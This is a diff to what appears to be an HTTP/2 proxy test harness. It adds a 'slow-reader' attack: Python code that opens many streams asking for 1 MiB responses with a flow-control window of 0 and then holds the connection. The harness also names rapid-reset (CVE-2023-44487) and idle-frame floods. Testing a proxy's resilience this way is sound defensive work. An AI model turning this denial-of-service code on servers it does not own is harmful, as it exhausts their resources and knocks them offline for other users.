@@ -12,7 +12,8 @@ reset-zero-window-update, reset-content-length; and floods of frames that
 do no work: idle-empty-data, idle-priority, idle-unknown, idle-ping-ack,
 idle-empty-headers, idle-mixed, idle-with-work (two idle frames per 1-byte
 DATA frame), plus settings-window-overflow (SETTINGS_INITIAL_WINDOW_SIZE
-2^31). Prints one line:
+2^31); slow-reader N SECONDS (N streams for 1 MiB each with an initial
+window of 0, never opened: prints "holding" and holds the connection). Prints one line:
   goaway <error code>     the proxy sent GOAWAY with that code
   reset <codes>           streams were reset (distinct codes, comma list)
   response <status>       a response arrived
@@ -124,8 +125,29 @@ def summary(raw):
     return "frame types %s, %d bytes left over" % (kinds, len(raw) - i)
 
 
+def slow_reader(addr, streams, seconds):
+    """A client that asks for large responses and never reads them: its
+    windows are 0 and never opened."""
+    host, port = addr.rsplit(":", 1)
+    s = socket.create_connection((host, int(port)), timeout=10)
+    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0x0, 0, struct.pack(">HI", 0x4, 0))
+    path = b"/bytes/1048576"
+    for i in range(streams):
+        block = b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x04test"
+        out += frame(0x1, 0x5, 2 * i + 1, block)
+    s.sendall(out)
+    print("holding", flush=True)
+    end = time.time() + seconds
+    while time.time() < end:
+        time.sleep(0.1)
+    s.close()
+
+
 def main():
     attack, addr = sys.argv[1], sys.argv[2]
+    if attack == "slow-reader":
+        slow_reader(addr, int(sys.argv[3]), float(sys.argv[4]))
+        return
     s, conn = connect(addr)
     if attack == "rapid-reset":
         # CVE-2023-44487: open a stream and reset it at once, thousands of times.
